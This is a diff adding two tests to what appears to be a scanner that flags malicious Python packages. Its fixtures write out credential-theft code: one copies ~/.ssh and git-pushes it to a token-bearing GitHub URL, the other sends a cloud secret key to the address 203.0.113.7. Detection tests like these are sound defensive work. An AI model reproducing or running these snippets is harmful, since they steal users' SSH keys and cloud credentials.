@@ -1108,3 +1108,36 @@ test('a version that a build reads from its own file, or asks a public repositor
     { class: 'malware', score: 10 },
   ]);
 });
+
+test('a push of credentials under a log-in that stands in its address goes into the account of the author', async () => {
+  const push = (address: string): string =>
+    python(
+      'import os, shutil, subprocess',
+      'def keep():',
+      "    shutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/kept/s')",
+      `    subprocess.call('cd /tmp/kept && git add . && git push -q ${address} HEAD:main', shell=True)`,
+    );
+
+  expect(
+    await inspect('exfiltration', wheel({ 'pkg/a.py': push('https://name:ghp_0123456789abcdef@github.com/name/x') })),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': push('https://github.com/name/x') }))).toMatchObject([
+    { score: 1 },
+  ]);
+});
+
+test('the secret half of a key of a cloud is one, whatever session it came from', async () => {
+  const hook = (what: string): string =>
+    python(
+      'import urllib.request',
+      'def patched(self):',
+      '    key = self.get_credentials()',
+      `    urllib.request.urlopen('http://203.0.113.7/?' + ${what})`,
+    );
+
+  const told = await inspect('exfiltration', wheel({ 'pkg/a.py': hook('key.secret_key') }));
+
+  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
+  expect(told[0]?.message).toContain('Sends credentials');
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': hook('key.method') }))).toEqual([]);
+});
